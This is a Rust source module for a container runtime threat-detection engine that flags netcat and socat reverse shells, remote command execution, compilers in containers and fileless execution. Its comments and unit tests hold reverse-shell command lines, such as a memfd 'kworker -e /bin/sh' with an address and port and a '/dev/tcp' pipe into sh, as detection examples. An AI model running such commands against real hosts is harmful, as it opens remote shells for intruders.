//! Detectors: pure functions of one event and the process view (table, container, rules,
//! network wiring) that say "this is an attack".
//!
//! A detection is one file: its [`Spec`] (category, severity, MITRE, description, scope), its
//! typed evidence and how that renders, its [`Detector`] and its unit tests. The registry below
//! lists them; tool grammars (netcat, socat, compilers, busybox applets) live apart in
//! [`tools`] as parsers. The [`Engine`] computes the per-exec facts once (which tool, its parsed
//! command line, the pipe loops an exec completes) and runs every detector on them. Adding a
//! detection: its file, a line in the registry, an entry in `rules/default.toml`, its tests.

pub mod binary;
mod compiler;
mod fileless;
mod netcat_rce;
pub mod network;
pub mod python;
mod remote_exec;
mod reverse_shell;
pub mod rules;
mod socat_shell;
pub mod spec;
pub mod tools;

pub use tools::{netcat, socat, Peer};

use std::{net::SocketAddr, sync::Arc};

use serde::Serialize;

use self::{
    binary::{BinaryCache, BinaryInfo},
    network::{NetState, RelayKind, WiredLoop},
    rules::Rules,
    spec::{put, Render, Scope, Spec},
    tools::{identify, identify_fingerprinted, netcat::NetcatCommand, socat::SocatCommand, KnownBinary, ToolKind, ToolLists},
};
use crate::{
    container::ContainerRef,
    event::{Event, EventBody, ProcessKey, SocketProto, Stdio},
    process::{Process, ProcessTable},
};

/// A process as a finding shows it, captured when the detection was made.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
pub struct ProcessSnapshot {
    /// Identity.
    pub key: ProcessKey,
    /// Parent pid.
    pub parent_pid: Option<u32>,
    /// Command name.
    pub name: String,
    /// Executable path (as seen from the process's root).
    pub exe: String,
    /// Arguments.
    pub argv: Vec<String>,
    /// Arguments were cut.
    pub argv_truncated: bool,
    /// Real uid.
    pub uid: u32,
    /// Size and hash of the executable, when it could be read.
    pub binary: Option<BinaryInfo>,
}

/// Socket evidence.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize)]
pub struct Connection {
    /// Local end.
    pub local: SocketAddr,
    /// Remote end.
    pub remote: SocketAddr,
    /// Transport.
    pub proto: SocketProto,
}

impl Connection {
    /// From an inet stdio description.
    pub fn from_stdio(s: &Stdio) -> Option<Connection> {
        match s {
            Stdio::Inet(s) => Some(Connection { local: s.local, remote: s.remote, proto: s.proto }),
            _ => None,
        }
    }
}

/// The registry: every detection, by its rules name (snake_case of the variant) and the file
/// that defines it.
macro_rules! registry {
    ($($(#[$doc:meta])* $variant:ident => $spec:path,)*) => {
        /// The detections, by their rules names.
        #[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, serde::Deserialize)]
        #[serde(rename_all = "snake_case")]
        pub enum DetectionId {
            $($(#[$doc])* $variant,)*
        }

        impl DetectionId {
            /// Every detection.
            pub const ALL: &'static [DetectionId] = &[$(DetectionId::$variant,)*];

            /// Its definition.
            pub fn spec(self) -> &'static Spec {
                match self {
                    $(DetectionId::$variant => &$spec,)*
                }
            }
        }
    };
}

registry! {
    /// `Execution: Netcat Remote Code Execution In Container`.
    NetcatRemoteCodeExecution => netcat_rce::SPEC,
    /// `Execution: Socat Reverse Shell Detected`.
    SocatReverseShell => socat_shell::SPEC,
    /// `Execution: Possible Remote Command Execution Detected`.
    RemoteCommandExecution => remote_exec::SPEC,
    /// `Reverse Shell`.
    ReverseShell => reverse_shell::SPEC,
    /// `Defense Evasion: Launch Code Compiler Tool In Container`.
    CompilerInContainer => compiler::SPEC,
    /// `Execution: Malicious Python executed`.
    MaliciousPython => python::SPEC,
    /// `Execution: Fileless Execution in /memfd:`.
    FilelessExecutionMemfd => fileless::MEMFD,
    /// `Privilege Escalation: Fileless Execution in /dev/shm`.
    FilelessExecutionShm => fileless::SHM,
}

impl DetectionId {
    /// SCC category.
    pub fn category(self) -> &'static str {
        self.spec().category
    }

    /// SCC module name.
    pub fn module(self) -> &'static str {
        self.spec().module
    }

    /// True for detections that only ever apply inside containers.
    pub fn container_only(self) -> bool {
        self.spec().scope == Scope::ContainerOnly
    }
}

/// What a detection saw, typed by the detection that made it; each renders its own
/// `sourceProperties`.
#[derive(Clone, Debug, PartialEq)]
pub enum Evidence {
    /// Nothing beyond the process, connection and peer.
    None,
    /// Netcat running a program for its peer, or feeding a shell through pipes.
    Netcat(netcat_rce::NetcatEvidence),
    /// socat joining a program to the network.
    Socat(socat_shell::SocatEvidence),
    /// A process fed by a network relay (socat EXEC, netcat through pipes).
    Relayed(network::Relayed),
    /// A compiler.
    Compiler(compiler::CompilerEvidence),
    /// The Python model's verdict.
    Python(python::PythonEvidence),
    /// A program run from memory or a deleted or tmpfs file.
    Fileless(fileless::FilelessEvidence),
}

impl Evidence {
    /// Add its properties.
    pub fn render(&self, props: &mut spec::Props) {
        match self {
            Evidence::None => {}
            Evidence::Netcat(e) => e.render(props),
            Evidence::Socat(e) => e.render(props),
            Evidence::Relayed(e) => e.render(props),
            Evidence::Compiler(e) => e.render(props),
            Evidence::Python(e) => e.render(props),
            Evidence::Fileless(e) => e.render(props),
        }
    }
}

/// The circumstances of a detection, whatever the detection.
#[derive(Clone, Debug, Default, PartialEq)]
pub struct Marks {
    /// The executable was recognised by its contents as this, its name said otherwise.
    pub recognised_as: Option<KnownBinary>,
    /// The process was running before the agent started (judged from `/proc`).
    pub running_before_agent_start: bool,
    /// The kernel lost this many records shortly before: something may be missing.
    pub records_lost: Option<u64>,
}

impl Render for Marks {
    fn render(&self, props: &mut spec::Props) {
        if let Some(k) = self.recognised_as {
            put(props, "Executable_Recognised_As", k.name());
        }
        if self.running_before_agent_start {
            put(props, "Running_Before_Agent_Start", true);
        }
        if let Some(n) = self.records_lost {
            put(props, "Sensor_Records_Lost", n);
        }
    }
}

/// One detector's verdict about one event.
#[derive(Clone, Debug, PartialEq)]
pub struct Detection {
    /// Which detection.
    pub id: DetectionId,
    /// Kernel time of the event.
    pub ts_boot_ns: u64,
    /// The process that did it.
    pub process: ProcessKey,
    /// The incident it belongs to: the root of the process tree the attack runs in.
    pub root: ProcessKey,
    /// cgroup of the process.
    pub cgroup_id: u64,
    /// Its container (None: host).
    pub container: Option<Arc<ContainerRef>>,
    /// Socket evidence, when there is any.
    pub connection: Option<Connection>,
    /// The peer its command line names, when there is one.
    pub peer: Option<Peer>,
    /// One line saying what was seen.
    pub summary: String,
    /// What this detection saw, typed; renders into `sourceProperties`.
    pub evidence: Evidence,
    /// What the engine and pipeline know about the circumstances of the detection.
    pub marks: Marks,
    /// The process and its parent (filled in by the engine).
    pub processes: Vec<ProcessSnapshot>,
    /// The process's ancestry, nearest first: (pid, command name, executable).
    pub ancestry: Vec<(u32, String, String)>,
    /// The script an interpreter ran, when the detection is about its code.
    pub script: Option<python::ScriptInfo>,
}

/// What a detector sees for one event.
pub struct Ctx<'a> {
    /// The event.
    pub event: &'a Event,
    /// The process the event is about, after the table applied the event.
    pub process: &'a Process,
    /// The process table.
    pub table: &'a ProcessTable,
    /// The process's container (None: host).
    pub container: Option<&'a Arc<ContainerRef>>,
    /// The rules.
    pub rules: &'a Rules,
    /// Name lists.
    pub lists: &'a ToolLists,
    /// What the exec'd program is (exec events only).
    pub tool: Option<ToolKind>,
    /// Index in argv where the program's own arguments start.
    pub args_from: usize,
    /// What the executable was recognised as by its contents, when its name did not say.
    pub known: Option<KnownBinary>,
    /// The tool's command line, parsed with its own grammar (netcat, socat), once per exec.
    pub command: Option<&'a ToolCommand>,
    /// Netcat-and-shell pipe loops this exec completed (in containers).
    pub wired: &'a [WiredLoop],
    /// Network wiring.
    pub net: &'a NetState,
}

/// A network tool's command line, parsed.
#[derive(Clone, Debug)]
pub enum ToolCommand {
    /// netcat, by its flavor's grammar.
    Netcat(tools::NetcatFlavor, NetcatCommand),
    /// socat.
    Socat(SocatCommand),
}

impl ToolCommand {
    /// Parse the command line of a netcat or socat (`args`: its own arguments).
    pub fn parse(tool: ToolKind, args: &[crate::event::RawStr]) -> Option<ToolCommand> {
        match tool {
            ToolKind::Netcat(flavor) => Some(ToolCommand::Netcat(flavor, netcat::parse(flavor, args))),
            ToolKind::Socat => Some(ToolCommand::Socat(socat::parse(args))),
            _ => None,
        }
    }

    /// The peer it names.
    pub fn peer(&self) -> Option<Peer> {
        match self {
            ToolCommand::Netcat(_, c) => c.peer(),
            ToolCommand::Socat(c) => c.addresses.iter().find_map(socat::SocatAddress::peer),
        }
    }

    /// How it relays the network, if it does: runs a program for its peer (netcat `-e`, socat
    /// EXEC), or talks to the network on its stdio (netcat otherwise, unless it only scans).
    pub fn relay(&self) -> Option<RelayKind> {
        match self {
            ToolCommand::Socat(c) => socat::reverse_shell(c).map(|_| RelayKind::Exec),
            ToolCommand::Netcat(_, c) => match &c.exec {
                // An echo or time service relays nothing to run.
                Some(x) if tools::command_moves_data_only(&x.program) => None,
                Some(_) => Some(RelayKind::Exec),
                None => (!c.scan_only).then_some(RelayKind::Netcat),
            },
        }
    }
}

impl Ctx<'_> {
    /// True when a detection may apply to this process: containers always, the host only for
    /// detections that are not container-only and when host scope is on.
    pub fn in_scope(&self, id: DetectionId) -> bool {
        self.rules.detection(id).enabled && (self.container.is_some() || (self.rules.scope.host && !id.container_only()))
    }

    /// A detection about this event's process.
    pub fn detection(&self, id: DetectionId, root: ProcessKey, summary: String) -> Detection {
        Detection {
            id,
            ts_boot_ns: self.event.ts_boot_ns,
            process: self.process.key,
            root,
            cgroup_id: self.event.cgroup_id,
            container: self.container.cloned(),
            connection: None,
            peer: None,
            summary,
            evidence: Evidence::None,
            marks: Marks::default(),
            processes: Vec::new(),
            ancestry: Vec::new(),
            script: None,
        }
    }

    /// Ancestors of this process in the same container (for the host: any), nearest first.
    pub fn ancestors(&self) -> impl Iterator<Item = &Process> {
        self.ancestors_of(self.process)
    }

    /// Ancestors of `p` (in this event's container) in the same container (for the host:
    /// any), nearest first.
    pub fn ancestors_of(&self, p: &Process) -> impl Iterator<Item = &Process> {
        let cgroup = p.cgroup_id;
        let in_container = self.container.is_some();
        self.table.ancestors(p.key).take_while(move |a| !in_container || a.cgroup_id == cgroup)
    }

    /// The peer a netcat's or socat's command line names.
    pub fn command_line_peer(&self, p: &Process) -> Option<Peer> {
        if p.key == self.process.key {
            return self.command.and_then(ToolCommand::peer);
        }
        let id = identify(&p.exe, &p.argv, self.lists);
        ToolCommand::parse(id.kind, &p.argv[id.args_from.min(p.argv.len())..])?.peer()
    }

    /// What a process that relays the network to a shell shows of it: the socket on its own
    /// stdio, else the last connection it made or accepted itself, else the peer its command
    /// line names.
    pub fn relay_evidence(&self, relay: ProcessKey) -> (Option<Connection>, Option<Peer>) {
        let Some(r) = self.table.get(relay) else { return (None, None) };
        let own = || r.connections.iter().rev().find_map(|c| Connection::from_stdio(&c.socket));
        match r.stdio.iter().find_map(Connection::from_stdio).or_else(own) {
            Some(c) => (Some(c), None),
            None => (None, self.command_line_peer(r)),
        }
    }

    /// One detection of `id` per relay/shell pipe loop this event completed (only the loops
    /// `which` accepts), about the shell the relay feeds (the incident is rooted at the shell).
    pub fn wired_shell_detections(&self, id: DetectionId, which: impl Fn(&network::WiredLoop) -> bool, out: &mut Vec<Detection>) {
        for w in self.wired.iter().filter(|w| which(w)) {
            let relay = self.table.get(w.relay);
            let name = relay.map(|r| r.comm.to_str_lossy().into_owned()).unwrap_or_default();
            let summary = format!("shell (pid {}) fed by {name} (pid {}) through pipes", w.shell.pid, w.relay.pid);
            let mut d = self.detection(id, w.shell, summary);
            d.process = w.shell;
            (d.connection, d.peer) = self.relay_evidence(w.relay);
            d.evidence = Evidence::Relayed(network::Relayed { relay: w.relay });
            out.push(d);
        }
    }

    /// A detection of `id` about the relay of pipe loop `w` (the incident is rooted at the
    /// relay), named as `tool`; the caller adds the peer and its evidence.
    pub fn wired_relay_detection(&self, id: DetectionId, w: &network::WiredLoop, tool: &str) -> Detection {
        let mut d = self.detection(id, w.relay, format!("{tool} (pid {}) feeds a shell (pid {}) through pipes", w.relay.pid, w.shell.pid));
        d.process = w.relay;
        d
    }

    /// The arguments as text.
    pub fn argv_text(&self) -> String {
        self.process.argv.iter().map(|a| a.to_str_lossy()).collect::<Vec<_>>().join(" ")
    }
}

/// A detection, as code.
pub trait Detector {
    /// Look at one event; push what it finds.
    fn on_event(&mut self, ctx: &Ctx<'_>, out: &mut Vec<Detection>);
}

/// Processes whose root (`/proc/<pid>/root`) shows `p`'s files: itself and its ancestors in
/// the same cgroup (one of them is usually still alive when `p` is already gone).
fn root_pids(table: &ProcessTable, p: &Process) -> Vec<u32> {
    let mut pids = vec![p.key.pid];
    pids.extend(table.ancestors(p.key).take_while(|a| a.cgroup_id == p.cgroup_id && a.pid_ns == p.pid_ns).take(4).map(|a| a.key.pid));
    pids
}

/// The file a process really runs (the program, when the dynamic loader was exec'd directly).
fn program_file(p: &Process) -> &[u8] {
    tools::program_path(&p.exe, &p.argv)
}

/// Ancestors listed in a finding.
pub const MAX_ANCESTRY: usize = 16;

/// Runs every detector on every event.
pub struct Engine {
    rules: Arc<Rules>,
    detectors: Vec<Box<dyn Detector + Send>>,
    net: NetState,
    binaries: BinaryCache,
    python: Option<python::PythonJudge>,
    out: Vec<Detection>,
    scripts: Vec<python::ScriptJob>,
    wired: Vec<WiredLoop>,
}

/// argv that would make an unknown binary worth fingerprinting: something that could be an exec
/// option of netcat (short options clustered with `e` or `c`, ncat's long options and their
/// abbreviations), an EXEC/SYSTEM/SHELL address of socat, or the code of an interpreter (`-c`,
/// `-e`, a `.py`/`.pl` script).
fn suspicious_args(argv: &[crate::event::RawStr]) -> bool {
    argv.iter().skip(1).any(|a| {
        let b = a.as_bytes();
        let short_exec = b.len() > 1 && b[0] == b'-' && b[1] != b'-' && b[1..].iter().any(|&c| c == b'e' || c == b'c');
        let long_exec = b.starts_with(b"--e") || b.starts_with(b"--sh") || b.starts_with(b"--lua");
        let address = |w: &[u8]| b.windows(w.len()).any(|x| x.eq_ignore_ascii_case(w));
        let script = b.ends_with(b".py") || b.ends_with(b".pl");
        short_exec || long_exec || script || address(b"exec:") || address(b"system:") || address(b"shell:")
    })
}

/// True when a standard fd of `p` is a connected inet socket (no lookups, no allocation).
fn stdio_on_network(p: &Process) -> bool {
    p.stdio.iter().any(|s| s.remote().is_some())
}

impl Engine {
    /// An engine with every detector; `python_model` enables the malicious-Python detection.
    pub fn new(rules: Arc<Rules>, python_model: Option<Arc<python_model::Model>>) -> Self {
        Self {
            rules,
            detectors: DetectionId::ALL.iter().filter_map(|id| id.spec().detector).map(|new| new()).collect(),
            net: NetState::default(),
            binaries: BinaryCache::default(),
            python: python_model.map(python::PythonJudge::new),
            out: Vec::new(),
            scripts: Vec::new(),
            wired: Vec::new(),
        }
    }

    /// The rules in force.
    pub fn rules(&self) -> &Arc<Rules> {
        &self.rules
    }

    /// What the program of an exec is: by the real executable's name or busybox applet; else,
    /// when the name says nothing (or only "everyday command" / "compiler") and the process is
    /// wired to the network or has netcat-, socat- or interpreter-like arguments, by the
    /// executable's contents (a renamed or copied shell, interpreter or network tool, or one run
    /// from a memfd). Contents are read once per file (cached by identity).
    fn tool_of(&mut self, table: &ProcessTable, p: &Process, live: bool) -> (ToolKind, usize, Option<KnownBinary>) {
        let id = identify(&p.exe, &p.argv, &self.rules.lists);
        let worth_reading = live
            && match id.kind {
                ToolKind::Other => suspicious_args(&p.argv) || stdio_on_network(p) || self.net.network_fed(table, p, &self.rules.lists).is_some(),
                ToolKind::CommonCommand | ToolKind::Compiler => stdio_on_network(p),
                _ => false,
            };
        let known = if worth_reading {
            let roots = root_pids(table, p);
            let known = self.binaries.fingerprint(p.cgroup_id, &roots, program_file(p));
            tracing::debug!(pid = p.key.pid, exe = %p.exe, ?roots, ?known, "fingerprinted an executable");
            known
        } else {
            None
        };
        match known {
            Some(known) => {
                let by_name = id.kind;
                let id = identify_fingerprinted(known, &p.exe, &p.argv, &self.rules.lists);
                (id.kind, id.args_from, (id.kind != by_name).then_some(known))
            }
            None if id.kind == ToolKind::Other && self.fileless_netcat(p) => (ToolKind::Netcat(tools::NetcatFlavor::Unknown), 1, None),
            None => (id.kind, id.args_from, None),
        }
    }

    /// A program with nothing on disk (a memfd, a deleted file) whose command line is a
    /// netcat's running a shell or interpreter for a peer (`kworker -e /bin/sh 10.0.0.1 4444`).
    /// Taken as netcat when its contents could not be read: netcat `-e` becomes the shell within
    /// milliseconds, and a memfd is gone with it, so reading it races; the command line does not.
    fn fileless_netcat(&self, p: &Process) -> bool {
        if !p.exe_storage.fileless() {
            return false;
        }
        let cmd = netcat::parse(tools::NetcatFlavor::Unknown, p.argv.get(1..).unwrap_or_default());
        let runs_shell =
            cmd.exec.as_ref().is_some_and(|x| matches!(tools::command_kind(&x.program, &self.rules.lists), ToolKind::Shell | ToolKind::Interpreter));
        runs_shell && cmd.peer().is_some()
    }

    /// Register `p` (which talks to the network) as a client relay when it is wired to pipes
    /// and not a relay already. True when registered.
    fn client_relay(&mut self, p: &Process, tool: ToolKind) -> bool {
        if self.net.relay(&p.key).is_some() || !p.stdio.iter().any(|s| s.pipe_ino().is_some()) {
            return false;
        }
        self.net.add_relay(p.key, RelayKind::Client, tool);
        true
    }

    /// A container cgroup left the tree: release what was held for it (its pinned root and
    /// mount namespace).
    pub fn forget_cgroup(&mut self, cgroup_id: u64) {
        self.binaries.forget_root(cgroup_id);
    }

    /// Run the detectors on one event (already applied to `table`). `live` allows reading the
    /// process's executable (not in replays, where the processes are not on this host).
    pub fn handle(
        &mut self,
        ev: &Event,
        table: &ProcessTable,
        container: Option<&Arc<ContainerRef>>,
        live: bool,
    ) -> Vec<Detection> {
        let Some(process) = table.get(ev.process) else {
            if let EventBody::Exit(_) = ev.body {
                self.net.forget(&ev.process);
            }
            return Vec::new();
        };
        let scoped = live && (container.is_some() || self.rules.scope.host);
        self.wired.clear();
        let mut command = None;
        let (tool, args_from, known) = match &ev.body {
            EventBody::Exec(x) => {
                // A container's root, from a process already inside it (its own pid namespace):
                // files stay readable after short-lived processes are gone.
                if live && container.is_some() && x.pid_ns != 0 {
                    self.binaries.capture_root(process.cgroup_id, process.key.pid);
                }
                self.net.index_stdio(process);
                let (tool, args_from, known) = self.tool_of(table, process, scoped);
                command = ToolCommand::parse(tool, &process.argv[args_from.min(process.argv.len())..]);
                if let Some(kind) = command.as_ref().and_then(ToolCommand::relay) {
                    self.net.add_relay(process.key, kind, tool);
                } else if process.stdio.iter().any(|s| s.remote().is_some()) {
                    // A program started with a socket on its stdio (`cat </dev/tcp/h/p | sh`).
                    self.client_relay(process, tool);
                }
                // The exec that completes a relay/shell pipe loop may be any member of it.
                if container.is_some() {
                    self.wired = self.net.wired_loops(table, process, &self.rules.lists);
                    self.net.first_seen(&mut self.wired);
                }
                (Some(tool), args_from, known)
            }
            // A program wired to pipes that connects (telnet, `openssl s_client`, socat without
            // EXEC): the connection may be what completes a relay/shell loop.
            EventBody::Connect(_) if container.is_some() && self.net.relay(&process.key).is_none() => {
                let tool = identify(&process.exe, &process.argv, &self.rules.lists).kind;
                if self.client_relay(process, tool) {
                    self.wired = self.net.wired_loops(table, process, &self.rules.lists);
                    self.net.first_seen(&mut self.wired);
                }
                (None, 1, None)
            }
            // A process that puts a socket on its stdin: what is it (a renamed shell doing
            // `exec 0<&3`)?
            EventBody::StdioRedirect(r) if r.fd == 0 && r.target.remote().is_some() => {
                let (tool, args_from, known) = self.tool_of(table, process, scoped);
                (Some(tool), args_from, known)
            }
            _ => (None, 1, None),
        };
        let ctx = Ctx {
            event: ev,
            process,
            table,
            container,
            rules: &self.rules,
            lists: &self.rules.lists,
            tool,
            args_from,
            known,
            command: command.as_ref(),
            wired: &self.wired,
            net: &self.net,
        };
        self.out.clear();
        for d in &mut self.detectors {
            d.on_event(&ctx, &mut self.out);
        }
        if let Some(judge) = self.python.as_mut() {
            judge.judge(&ctx, || root_pids(table, process), self.binaries.root(process.cgroup_id), live, &mut self.out, &mut self.scripts);
        }
        if let EventBody::Exit(_) = ev.body {
            self.net.forget(&ev.process);
        }
        let mut found = std::mem::take(&mut self.out);
        for d in &mut found {
            if d.process == process.key {
                d.marks.recognised_as = known;
            }
            self.complete(d, table, live);
        }
        // Scripts: their processes as they are now, the verdict later (see `verdicts`).
        for mut job in std::mem::take(&mut self.scripts) {
            self.complete(&mut job.detection, table, live);
            if let Some(d) = self.python.as_mut().and_then(|j| j.submit(job)) {
                found.push(d);
            }
        }
        found.extend(self.verdicts(None));
        found
    }

    /// Detections of scripts judged since the last call (they are complete: their processes
    /// were captured when the script was handed out). With `wait`, waits up to that long for
    /// all scripts handed out (at shutdown).
    pub fn verdicts(&mut self, wait: Option<std::time::Duration>) -> Vec<Detection> {
        self.python.as_mut().map(|j| j.verdicts(wait)).unwrap_or_default()
    }

    /// Scripts handed out and not judged yet.
    pub fn pending_scripts(&self) -> usize {
        self.python.as_ref().map_or(0, python::PythonJudge::pending)
    }

    /// Fill in the processes and ancestry a finding shows.
    fn complete(&mut self, d: &mut Detection, table: &ProcessTable, live: bool) {
        d.processes = self.snapshots(table, d.process, live);
        d.ancestry = table
            .ancestors(d.process)
            .take(MAX_ANCESTRY)
            .map(|a| (a.key.pid, a.comm.to_string(), a.exe.to_string()))
            .collect();
    }

    /// The offending process and its parent, as findings show them.
    fn snapshots(&mut self, table: &ProcessTable, key: ProcessKey, live: bool) -> Vec<ProcessSnapshot> {
        let mut out = Vec::with_capacity(2);
        let mut next = Some(key);
        for _ in 0..2 {
            let Some(p) = next.and_then(|k| table.get(k)) else { break };
            out.push(ProcessSnapshot {
                key: p.key,
                parent_pid: p.parent.map(|k| k.pid),
                name: p.comm.to_string(),
                exe: p.exe.to_string(),
                argv: p.argv.iter().map(|a| a.to_string()).collect(),
                argv_truncated: p.argv_truncated,
                uid: p.uid,
                binary: if live { self.binaries.info(p.cgroup_id, &root_pids(table, p), p.exe.as_bytes()) } else { None },
            });
            next = p.parent;
        }
        out
    }

    /// Shared network wiring (for metrics and tests).
    pub fn net(&self) -> &NetState {
        &self.net
    }
}


#[cfg(test)]
mod tests {
    use std::collections::HashSet;

    use super::*;

    #[test]
    fn every_detection_has_one_spec_its_default_rules_agree_with() {
        let rules = Rules::defaults();
        let (mut categories, mut modules) = (HashSet::new(), HashSet::new());
        for &id in DetectionId::ALL {
            let spec = id.spec();
            assert!(categories.insert(spec.category), "{id:?}: category used twice");
            assert!(modules.insert(spec.module), "{id:?}: module used twice");
            assert_eq!(rules.detection(id).severity, spec.severity, "{id:?}: rules/default.toml and the spec disagree");
            assert!(!spec.description.is_empty() && !spec.next_steps.is_empty() && !spec.mitre.tactic.is_empty());
        }
        // Every detector runs once (siblings share one).
        let engine = Engine::new(Arc::new(rules), None);
        assert_eq!(engine.detectors.len(), DetectionId::ALL.iter().filter(|id| id.spec().detector.is_some()).count());
    }

    #[test]
    fn a_fileless_program_with_a_netcat_exec_command_line_is_netcat() {
        use crate::event::{ExeStorage, RawStr};
        let engine = Engine::new(Arc::new(Rules::defaults()), None);
        let memfd = ExeStorage { in_memory_fs: true, unlinked: true };
        let process = |argv: &[&str], exe_storage| Process {
            argv: argv.iter().map(|a| RawStr::from(*a)).collect(),
            exe: RawStr::from("/memfd:kworker"),
            exe_storage,
            ..Process::new(ProcessKey { pid: 5, start: 1 })
        };
        assert!(engine.fileless_netcat(&process(&["kworker", "-e", "/bin/sh", "127.0.0.1", "4444"], memfd)));
        assert!(engine.fileless_netcat(&process(&["kworker", "-lp4444", "-e", "python3"], memfd)));
        // The same command line from a program on disk is judged by its name and contents.
        assert!(!engine.fileless_netcat(&process(&["kworker", "-e", "/bin/sh", "127.0.0.1", "4444"], ExeStorage::default())));
        // Serving a program that is not a shell (an echo service), or naming no peer: no.
        assert!(!engine.fileless_netcat(&process(&["kworker", "-e", "/bin/cat", "127.0.0.1", "4444"], memfd)));
        assert!(!engine.fileless_netcat(&process(&["kworker", "-e", "/bin/sh"], memfd)));
    }

    #[test]
    fn evidence_and_marks_render_their_properties() {
        let mut props = spec::Props::new();
        Evidence::Relayed(network::Relayed { relay: ProcessKey { pid: 7, start: 1 } }).render(&mut props);
        Marks { recognised_as: None, running_before_agent_start: true, records_lost: Some(3) }.render(&mut props);
        assert_eq!(props["Network_Relay_Pid"], 7);
        assert_eq!(props["Running_Before_Agent_Start"], true);
        assert_eq!(props["Sensor_Records_Lost"], 3);
        assert_eq!(props.len(), 3, "{props:?}");
    }
}
